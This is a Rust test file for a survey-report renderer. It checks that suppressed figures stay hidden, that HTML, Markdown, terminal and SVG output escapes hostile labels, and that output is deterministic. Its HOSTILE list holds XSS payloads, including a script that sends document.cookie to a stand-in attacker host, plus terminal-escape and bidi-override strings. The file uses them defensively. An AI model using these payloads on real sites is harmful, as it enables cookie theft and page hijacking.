//! What reports promise: hidden numbers appear nowhere, text from data does nothing, the same input gives the same file.

use cxm_core::report::chart::{Base, Chart, ChartKind, ChartPoint, ChartUnit, PointValue, Tone};
use cxm_core::report::page::{Align, Block, Cell, IntervalBar, KeyFigure, Notice, Page, Section, Table};

const HOSTILE: &[&str] = &[
    "<script>fetch(\"//evil.example/\"+document.cookie)</script>",
    "\"><svg/onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "</title></svg><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "]]></style><script>alert(1)</script>",
    "[click](javascript:alert(1)) | x",
    "\u{1b}[2J\u{1b}]0;pwned\u{7}",
    "\u{202e}evil\u{202c}",
    "nul \0 and \u{fffe}",
    "line\nbreak\u{2028}break",
    "__proto__",
    "constructor",
];

/// Numbers of a row that is hidden: they are given together with the flag, as a careless caller would.
fn hidden() -> PointValue {
    PointValue::from_fields(Some(12.345_678), Some(-7.654_321), Some(33.987_654), Some(4_321), &["suppressed"], Some(5))
}

fn chart(kind: ChartKind, labels: &[&str]) -> Chart {
    let mut chart = Chart::new(kind, "Title & <title>", ChartUnit::Points)
        .subtitle("Sub <b>")
        .value_label("NPS <i>")
        .note("Note <u>")
        .reference("Total <s>", 39.8)
        .level(0.95);
    for (i, label) in (0u32..).zip(labels) {
        let point = ChartPoint::shown(*label, f64::from(i)).interval(f64::from(i) - 5.0, f64::from(i) + 5.0).n(100);
        let point = if kind == ChartKind::Trend { point.series(*label) } else { point };
        chart = chart.point(if kind == ChartKind::Distribution { point.band(*label, Tone::Negative) } else { point });
    }
    chart.point(ChartPoint::new("2024-02-01", hidden()))
}

fn page(labels: &[&str]) -> Page {
    let mut table =
        Table::new(labels.concat()).column(labels.concat(), Align::Left).column("NPS", Align::Right).column("", Align::Left);
    let bar = IntervalBar { estimate: Some(f64::NAN), interval: Some((1.0, 2.0)), domain: (-100.0, 100.0) };
    let mut section = Section::new(labels.concat()).intro(labels.concat()).block(Block::Paragraph(labels.concat()));
    for label in labels {
        table = table.row([Cell::from(*label), Cell::Toned((*label).to_owned(), Tone::Positive), Cell::Interval(bar)]);
        section = section
            .block(Block::KeyFigures(vec![KeyFigure::new(*label, *label).interval_text(*label).note(*label).bar(bar)]))
            .block(Block::Notice(Notice { tone: Tone::Negative, text: (*label).to_owned() }));
    }
    for kind in ChartKind::ALL {
        section = section.block(Block::Chart(Box::new(chart(*kind, labels))));
    }
    Page::new(labels.concat())
        .subtitle(labels.concat())
        .language(labels.concat())
        .section(section.block(Block::Table(table)))
        .generated_note(labels.concat())
}

/// Every way in which a chart or a page with it is written.
fn written(labels: &[&str]) -> Vec<String> {
    let mut out = Vec::new();
    for kind in ChartKind::ALL {
        let chart = chart(*kind, labels);
        out.push(chart.to_vega_lite().to_string());
        out.push(chart.description());
        #[cfg(feature = "charts")]
        for theme in cxm_core::report::chart::Theme::ALL {
            let options = cxm_core::report::chart::SvgOptions::default().theme(*theme);
            out.push(chart.to_svg(&options));
            out.push(chart.to_svg(&options.width(320).height(300)));
        }
    }
    let page = page(labels);
    out.extend([page.to_html(), page.to_markdown(), page.to_text(80)]);
    out
}

#[test]
fn the_numbers_of_a_hidden_row_appear_nowhere() {
    for text in written(&["2024-01-01", "2024-03-01"]) {
        assert!(text.contains("<5") || text.contains("&lt;5") || text.contains("u003c5"), "{text}");
        for number in ["12.3", "7.65", "33.9", "4321", "4,321"] {
            assert!(!text.contains(number), "{number} leaks: {text}");
        }
    }
}

#[test]
fn a_hidden_row_is_null_in_the_data_of_the_spec() {
    // A stream without a count is not drawn, and only the note says so.
    for kind in ChartKind::ALL.iter().filter(|kind| **kind != ChartKind::Flow) {
        let spec = chart(*kind, &["2024-01-01"]).to_vega_lite();
        let rows = spec["data"]["values"].as_array().cloned().unwrap_or_default();
        let row = rows.iter().find(|row| row["label"] == "2024-02-01").cloned().unwrap_or_default();
        for field in ["estimate", "conf_low", "conf_high", "n", "interval_text", "base"] {
            assert!(row[field].is_null() && row.get(field).is_some(), "{field} of {row}");
        }
        assert_eq!(row["text"], "<5");
    }
}

#[test]
fn a_spec_has_its_marks_and_names_no_address_but_the_schema() {
    let marks = |kind| {
        let spec = chart(kind, &["2024-01-01"]).to_vega_lite();
        assert_eq!(spec.to_string().matches("http").count(), 1);
        assert_eq!(spec["$schema"], "https://vega.github.io/schema/vega-lite/v5.json");
        let layers = spec["layer"].as_array().cloned().unwrap_or_default();
        layers.iter().filter_map(|l| l["mark"]["type"].as_str().map(str::to_owned)).collect::<Vec<_>>()
    };
    assert_eq!(marks(ChartKind::Estimates), ["rule", "rule", "text", "rule", "point", "text", "text", "text"]);
    assert_eq!(marks(ChartKind::Trend), ["rule", "rule", "text", "area", "line", "point", "text"]);
    assert_eq!(marks(ChartKind::Distribution), ["bar", "text", "text"]);
}

#[test]
fn a_line_is_cut_where_a_period_has_no_value() {
    let chart = Chart::new(ChartKind::Trend, "", ChartUnit::Points)
        .point(ChartPoint::shown("2024-03-01", 3.0))
        .point(ChartPoint::shown("2024-01-01", 1.0))
        .point(ChartPoint::empty("2024-02-01"));
    let spec = chart.to_vega_lite();
    let runs: Vec<_> = (0..3).map(|i| spec["data"]["values"][i]["run"].clone()).collect();
    assert_ne!(runs[0], runs[2], "{runs:?}");
}

#[test]
fn rows_with_the_same_label_stay_apart() {
    let point = || ChartPoint::shown("North", 1.0);
    let spec = Chart::new(ChartKind::Estimates, "", ChartUnit::Points)
        .points([point(), ChartPoint::shown("North (2)", 2.0), point()])
        .to_vega_lite();
    let labels: std::collections::HashSet<_> = (0..3).map(|i| spec["data"]["values"][i]["label"].to_string()).collect();
    assert_eq!(labels.len(), 3, "{labels:?}");
}

#[test]
fn markup_in_text_opens_no_element_anywhere() {
    let harmless: Vec<String> = (0..HOSTILE.len()).map(|i| format!("label {i}")).collect();
    let safe = page(&harmless.iter().map(String::as_str).collect::<Vec<_>>()).to_html();
    let hostile = page(HOSTILE).to_html();
    assert!(!safe.contains("src="), "the page loads nothing");
    // No element comes from the text: with harmless labels, as many, the page has the same ones.
    let elements = |html: &str| -> std::collections::BTreeSet<String> {
        let names = html
            .split('<')
            .skip(1)
            .map(|tag| tag.trim_start_matches('/').split([' ', '>', '\n']).next().unwrap_or_default().to_owned());
        names.collect()
    };
    assert_eq!(elements(&hostile), elements(&safe));
    assert!(!elements(&safe).contains("script") && !hostile.contains(['\0', '\u{1b}']));
    // Attributes that listen to events appear only inside escaped text.
    for (at, _) in hostile.match_indices(" onmouseover=") {
        assert!(hostile[..at].ends_with("&#39;") || hostile[..at].ends_with("&apos;"), "{}", &hostile[at.saturating_sub(40)..at]);
    }
}

#[test]
fn markdown_and_terminal_text_hold_no_markup_and_no_controls() {
    let page = page(HOSTILE);
    assert!(!page.to_markdown().contains('<'));
    let text = page.to_text(80);
    assert!(!text.chars().any(|c| c.is_control() && c != '\n'));
    assert!(!text.contains('\u{202e}'));
}

#[test]
fn the_page_forbids_what_it_does_not_need() {
    let html = page(&["a"]).to_html();
    assert!(html.contains(
        "Content-Security-Policy\" content=\"default-src &#39;none&#39;; style-src &#39;unsafe-inline&#39;; img-src data:;"
    ));
    for landmark in [
        "<html lang=",
        "<header>",
        "<main id=\"main\"",
        "<footer>",
        "class=\"skip\"",
        "<caption>",
        "scope=\"col\"",
        "scope=\"row\"",
        "role=\"region\" tabindex=\"0\"",
    ] {
        assert!(html.contains(landmark), "{landmark}");
    }
}

#[test]
fn a_table_without_a_caption_is_named_by_what_it_stands_under() {
    let table = || Block::Table(Table::new("").column("Region", Align::Left).row(["North".into()]));
    let section = Section::new("Scores").block(table()).block(Block::Heading("<By region>".into())).block(table());
    let html = Page::new("T").section(section).to_html();
    for name in ["Scores", "&lt;By region&gt;"] {
        assert!(html.contains(&format!("aria-label=\"{name}\">\n<table aria-label=\"{name}\">")), "{html}");
    }
}

#[test]
fn terminal_tables_stand_in_columns() {
    let table = Table::new("")
        .column("Region", Align::Left)
        .column("NPS", Align::Right)
        .row(["素晴".into(), "9".into()])
        .row(["North".into(), "39.8".into()]);
    let text = Page::new("T").section(Section::new("S").block(Block::Table(table))).to_text(80);
    assert!(text.contains("Region   NPS\n──────  ────\n素晴       9\nNorth   39.8\n"), "{text}");
}

#[test]
fn markdown_tables_leave_pictures_out() {
    let chart = Chart::new(ChartKind::Estimates, "NPS", ChartUnit::Points)
        .level(0.95)
        .point(ChartPoint::shown("North", 39.8).interval(37.2, 42.4).n(2_746))
        .point(ChartPoint::shown("South", -8.0).interval(-34.0, 20.0).n(17).base(Base::Low));
    let text = Page::new("T").section(Section::new("S").block(Block::Chart(Box::new(chart)))).to_markdown();
    let expected = "| Segment | Estimate | 95 % interval | n |\n| :--- | ---: | ---: | ---: |\n\
                    | North | 39.8 | \\[37.2, 42.4\\] | 2,746 |\n| South | -8.0 | \\[-34.0, 20.0\\] | 17 low base |";
    assert!(text.contains(expected), "{text}");
}

#[test]
fn the_same_input_gives_the_same_file() {
    assert_eq!(written(HOSTILE), written(HOSTILE));
}

#[cfg(feature = "charts")]
mod svg {
    use super::*;
    use cxm_core::report::chart::{SvgOptions, Theme};

    #[test]
    fn an_svg_is_readable_for_those_who_do_not_see_it() {
        let svg = chart(ChartKind::Estimates, &["R&D"]).to_svg(&SvgOptions::default());
        for part in [
            "role=\"img\"",
            "aria-labelledby=\"cxm-",
            "<title id=\"cxm-",
            "<desc id=\"cxm-",
            "viewBox=\"0 0 7200 ",
            ">R&amp;D</text>",
            ">0.0</text>",
        ] {
            assert!(svg.contains(part), "{part}");
        }
        assert_eq!(svg.matches("<svg").count(), 1);
        assert_eq!(svg.matches("</svg>").count(), 1);
    }

    #[test]
    fn text_in_an_svg_opens_no_element() {
        for kind in ChartKind::ALL {
            for theme in Theme::ALL {
                let svg = chart(*kind, HOSTILE).to_svg(&SvgOptions::default().theme(*theme));
                for tag in svg.split('<').skip(1).map(|rest| rest.trim_start_matches('/')) {
                    let name = tag.split([' ', '>', '/']).next().unwrap_or_default();
                    let drawn = ["svg", "title", "desc", "style", "rect", "line", "polyline", "polygon", "circle", "text"];
                    assert!(drawn.contains(&name), "{name}");
                }
                assert!(!svg.chars().any(|c| c.is_control() && c != '\n'));
            }
        }
    }

    #[test]
    fn a_chart_of_nothing_and_of_odd_numbers_is_still_a_picture() {
        for kind in ChartKind::ALL {
            for unit in ChartUnit::ALL {
                let mut chart = Chart::new(*kind, "", *unit).domain(f64::NAN, 1.0).reference("", f64::INFINITY).level(0.95);
                assert!(chart.to_svg(&SvgOptions::default().width(0).height(0)).starts_with("<svg "));
                for value in [f64::NAN, f64::INFINITY, 1e308, -1e308, 0.0, -0.0, 5e-324] {
                    chart = chart.point(ChartPoint::shown("x", value).interval(value, f64::NAN).n(u64::MAX));
                    chart = chart.point(ChartPoint::shown("x", value).interval(-value, value));
                }
                let svg = chart.to_svg(&SvgOptions::default().width(u32::MAX).height(u32::MAX));
                assert!(!svg.contains("NaN") && !svg.contains("inf\""), "{svg}");
                assert!(!chart.to_vega_lite().to_string().contains("NaN"));
            }
        }
    }
}
